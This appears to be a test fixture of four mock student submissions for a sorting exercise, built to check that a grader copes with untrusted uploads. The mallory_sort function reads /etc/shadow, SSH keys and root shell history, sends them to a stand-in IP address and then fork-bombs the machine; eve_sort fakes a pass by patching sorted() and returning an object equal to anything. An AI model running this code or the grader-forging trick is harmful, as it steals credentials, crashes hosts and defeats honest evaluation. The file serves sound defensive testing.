"""Four "student" submissions for a sorting exercise (examples/cookbook/test_grading.py).
Imagine these arrived as uploads: nothing here is trusted."""


def alice_sort(items):  # correct
    return sorted(items)


def bob_sort(items):  # wrong: drops duplicates
    return sorted(set(items))


def mallory_sort(items):  # hostile
    import os

    stolen = []
    for path in ("/etc/shadow", os.path.expanduser("~/.ssh/id_rsa"), "/root/.bash_history"):
        try:
            with open(path) as f:
                stolen.append(f.read())
        except OSError:
            pass
    try:  # phone home
        import socket

        socket.create_connection(("203.0.113.7", 80), timeout=1).sendall(repr(stolen).encode())
    except OSError:
        pass
    while True:  # then fork until the machine dies
        try:
            os.fork()
        except OSError:
            pass


class _AlwaysEqual(list):
    def __eq__(self, other):
        return True


def eve_sort(items):  # forges: an object equal to anything, and a patched sorted()
    import builtins

    builtins.sorted = lambda seq: _AlwaysEqual()
    return _AlwaysEqual()
